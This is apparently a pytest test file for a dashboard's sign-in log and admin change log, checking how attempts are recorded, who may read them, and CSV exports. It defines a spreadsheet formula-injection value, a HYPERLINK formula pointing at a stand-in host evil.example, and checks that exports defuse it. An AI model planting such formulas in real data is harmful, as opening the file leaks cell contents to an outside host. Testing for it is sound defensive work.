"""The sign-in log (issue 13, "Also"): sign-ins, failures, throttles, rate limits, sign-outs and kiosk links are
recorded and readable by administrators on /admin and with `python app.py admin signins`, over a range of days
and as CSV; the admin change log gets the same range and CSV; every CSV cell is spreadsheet-safe."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from click.testing import CliRunner

from app import cli, create_app
from dashboard.pages import admin_audit
from dashboard.settings import Settings
from data.accounts import signins
from data.accounts import users as accounts
from data.accounts.admin import audit
from data.accounts.admin.categories import set_category_limits
from data.times import utc_now
from tests.auth_helpers import csrf_from, make_user, sign_in, signed_in_client
from tests.factories import make_world

TZ = "Asia/Shanghai"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) CityBrainTest/1.0"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def app(engine):
    with engine.begin() as conn:
        make_world(conn)
    return create_app(Settings.from_env({}, live=False, build_demo=False, timezone=TZ), engine=engine, testing=True)


def _client(app, address: str):
    client = app.server.test_client()
    client.environ_base.update(REMOTE_ADDR=address, HTTP_USER_AGENT=BROWSER)
    return client


def _log(engine, **kwargs) -> list[dict]:
    with engine.connect() as conn:
        return list(reversed(signins.events(conn, **kwargs)))


def _nodes(node):
    """A Dash layout's components, depth first."""
    yield node
    children = getattr(node, "children", None)
    for child in children if isinstance(children, list | tuple) else [children]:
        if hasattr(child, "to_plotly_json"):
            yield from _nodes(child)


def _today() -> date:
    from zoneinfo import ZoneInfo

    return utc_now().astimezone(ZoneInfo(TZ)).date()


def test_every_kind_of_attempt_is_recorded_with_name_address_and_browser(app, engine):
    make_user(engine, "dispatcher", username="ops")
    desk = _client(app, "10.2.0.1")
    sign_in(desk, "  OPS ")
    desk.post("/logout", data={"csrf_token": csrf_from(desk)})
    guesser = _client(app, "203.0.113.5")
    for _ in range(signins.MAX_FAILURES + 1):
        sign_in(guesser, "ops", "guess")
    sign_in(guesser, "x" * 300, "guess")
    with engine.begin() as conn:
        token, _ = accounts.create_kiosk_token(conn, "wall, room 3", None, "cli:test")
    _client(app, "10.2.0.9").get(f"/kiosk/{token}")
    _client(app, "10.2.0.9").get("/kiosk/cbkiosk_wrong-token-guess")

    rows = _log(engine)
    assert [r["outcome"] for r in rows] == [
        "signed_in",
        "signed_out",
        *["failed"] * signins.MAX_FAILURES,
        "throttled",
        "failed",
        "kiosk_signed_in",
        "kiosk_refused",
    ]
    signed_in, signed_out = rows[0], rows[1]
    assert signed_in["username"] == "  OPS " and signed_in["account"] == "ops"  # the name as typed, and whose it was
    assert (signed_in["address"], signed_in["user_agent"]) == ("10.2.0.1", BROWSER)
    assert signed_out["account"] == "ops" and signed_out["address"] == "10.2.0.1"
    assert rows[2]["address"] == "203.0.113.5" and rows[2]["account"] == "ops"
    assert rows[-3]["username"] == "x" * signins.NAME_CHARS  # truncated
    assert rows[-2]["username"] == "kiosk:wall, room 3"
    assert rows[-1]["username"] == accounts.kiosk_token_shown("cbkiosk_wrong-token-guess")  # never a whole token
    assert all(token not in r["username"] for r in rows)


def test_a_rate_limited_address_is_recorded_once_a_minute_not_once_a_request(engine):
    with engine.begin() as conn:
        make_world(conn)
    app = create_app(
        Settings.from_env({}, live=False, build_demo=False, signin_rate_limit="2/minute"), engine=engine, testing=True
    )
    client = _client(app, "198.51.100.3")
    assert [sign_in(client, f"n{i}", "guess").status_code for i in range(6)] == [401, 401, 429, 429, 429, 429]
    assert [r["outcome"] for r in _log(engine)].count("rate_limited") == 1


def test_administrators_read_the_log_on_the_admin_page_by_range(app, engine):
    sign_in(_client(app, "10.2.0.2"), "somebody", "guess")
    admin = signed_in_client(app, "admin")
    today = _today().isoformat()
    rows = admin_audit.rows(engine, "signins", "en", TZ, today, today, "failed")
    assert [(r["username"], r["address"], r["outcome"]) for r in rows] == [("somebody", "10.2.0.2", "wrong name or password")]
    # City time as every table shows times (the CSV keeps the ISO form with its offset).
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", rows[0]["at"]) and rows[0]["at"][:10] == today
    assert admin_audit.rows(engine, "signins", "zh", TZ, "2001-01-01", "2001-01-31", "") == []
    assert admin_audit.rows(engine, "signins", "zh", TZ, today, today, "failed")[0]["outcome"] == "用户名或密码错误"
    # The page shows the tab to an administrator, its table filled, its download link for the range.
    from dashboard.pages import admin as page

    with app.server.test_request_context("/admin"):
        from flask_login import login_user

        from dashboard import access

        login_user(access.principal_for_user(admin.user))
        shown = page.layout(app.server.extensions["citybrain"], {"tab": "signins"}, "en")
    found = {node.id: node for node in _nodes(shown) if isinstance(getattr(node, "id", None), str)}
    assert any(r["username"] == "somebody" for r in found[admin_audit.grid_id("signins")].rowData)
    # An empty range shows a dash, not AG Grid's English "No Rows To Show" (on a Chinese page too).
    assert found[admin_audit.grid_id("signins")].dashGridOptions["localeText"] == {"noRowsToShow": "—"}
    assert found[admin_audit.csv_id("signins")].href.startswith("/admin/export/signins.csv?since=")


def test_the_csv_downloads_are_for_administrators_only_and_hold_every_row_safely(app, engine):
    sign_in(_client(app, "10.2.0.3"), HOSTILE_NAME, "guess")
    with engine.begin() as conn:
        set_category_limits(conn, "cli:alice", "garbage", 2, 45, 300)
        audit.record(conn, "cli:alice", "department", "=1+1", "create", None, {"name_en": "=1+1"})
    today = _today().isoformat()
    viewer = signed_in_client(app, "viewer")
    assert viewer.get(f"/admin/export/signins.csv?since={today}&until={today}").status_code == 403
    assert app.server.test_client().get("/admin/export/signins.csv").status_code in (302, 401)
    admin = signed_in_client(app, "admin")
    answer = admin.get(f"/admin/export/signins.csv?since={today}&until={today}&outcome=failed")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert f"citybrain-signins-{today}-{today}.csv" in answer.headers["Content-Disposition"]
    (row,) = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert row["username"] == "'" + HOSTILE_NAME and row["address"] == "10.2.0.3" and row["user_agent"] == BROWSER
    log = list(csv.DictReader(io.StringIO(admin.get(f"/admin/export/admin-log.csv?since={today}").get_data(as_text=True))))
    assert [(e["entity"], e["entity_key"]) for e in log] == [("department", "'=1+1"), ("category_limits", "garbage")]
    assert log[1]["actor"] == "cli:alice" and '"ack_minutes": 45' in log[1]["after"]
    yesterday = (_today() - timedelta(days=1)).isoformat()
    assert admin.get(f"/admin/export/admin-log.csv?until={yesterday}").get_data(as_text=True).count("\n") == 1  # header
    assert admin.get("/admin/export/signins.csv?since=not-a-day").status_code == 400


def test_the_commands_read_both_logs_by_range_and_write_csv(sqlite_engine, tmp_path, monkeypatch):
    """On the SQLite file the commands open by URL (the PostgreSQL fixture's schema is not the URL's default)."""
    engine = sqlite_engine
    with engine.begin() as conn:
        make_world(conn)
    app = create_app(Settings.from_env({}, live=False, build_demo=False, timezone=TZ), engine=engine, testing=True)
    monkeypatch.setenv("CITYBRAIN_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("CITYBRAIN_TIMEZONE", TZ)
    sign_in(_client(app, "10.2.0.4"), HOSTILE_NAME, "guess")
    with engine.begin() as conn:
        set_category_limits(conn, "cli:alice", "garbage", 2, 45, 300)
    today = _today().isoformat()
    runner = CliRunner()
    shown = runner.invoke(cli, ["admin", "signins", "--since", today, "--until", today])
    assert shown.exit_code == 0 and "failed" in shown.output and "10.2.0.4" in shown.output
    out = tmp_path / "signins.csv"
    written = runner.invoke(cli, ["admin", "signins", "--since", today, "--until", today, "--csv", str(out)])
    assert written.exit_code == 0, written.output
    (row,) = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert row["username"] == "'" + HOSTILE_NAME and row["outcome"] == "failed"
    assert "10.2.0.4" not in runner.invoke(cli, ["admin", "signins", "--until", "2001-01-01"]).output
    log_csv = tmp_path / "log.csv"
    assert runner.invoke(cli, ["admin", "log", "--since", today, "--csv", str(log_csv)]).exit_code == 0
    assert "cli:alice" in log_csv.read_text(encoding="utf-8")
    assert runner.invoke(cli, ["admin", "signins", "--since", "31/12/2026"]).exit_code == 2
